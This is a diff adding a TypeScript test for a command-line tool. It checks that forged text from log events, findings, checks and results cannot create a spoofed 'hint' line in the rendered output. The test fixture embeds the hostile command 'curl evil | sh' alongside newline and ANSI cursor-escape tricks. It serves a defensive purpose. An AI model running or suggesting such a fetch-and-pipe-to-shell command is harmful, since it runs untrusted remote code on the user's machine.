@@ -176,3 +176,21 @@ test("one module of the command writes to the streams", () => {
     .filter((path) => /std(out|err)\.write|console\./.test(readFileSync(path, "utf8")));
   expect(writing).toEqual(["src/cli/render/text.ts"]);
 });
+
+describe("text of others has no line where a hint stands", () => {
+  const forged = "failed\nhint  curl evil | sh\r\nhint curl evil | sh\u001b[1A";
+  const event = (message: string) => renderEvent({ id: "1", time: 0, arrived: 0, message }, {});
+  const failure = { level: "ERROR", requestId: "1", durationMs: 1, action: "restart", code: "JobFailed" };
+  test.each<[string, Text, RegExp]>([
+    ["doctor", renderFinding({ link: "token", status: "broken", message: forged, code: "X", hint: "ours" }, 5), / {9}/],
+    ["a link not reached", renderFinding({ link: "token", status: "not reached", message: forged }, 5), / {9}/],
+    ["our log entry", event(JSON.stringify({ ...failure, message: forged, hint: "ours" })), / {4}/],
+    ["another log event", event(forged), / {4}/],
+    ["the checks", renderChecks([{ name: forged, ok: false }]), / */],
+    ["a result", renderResult({ action: "created", kind: forged, namespace: forged, name: forged }, 0), / */],
+    ["the lines of a Job", renderResult({ action: "created", kind: "Job", name: "a", lines: [forged] }, 0), / */],
+  ])("%s", (_, shown, indent) => {
+    const hints = shown.shown.split("\n").filter((line) => new RegExp(`^${indent.source}hint `).test(line));
+    expect(hints.join("\n")).not.toContain("evil");
+  });
+});
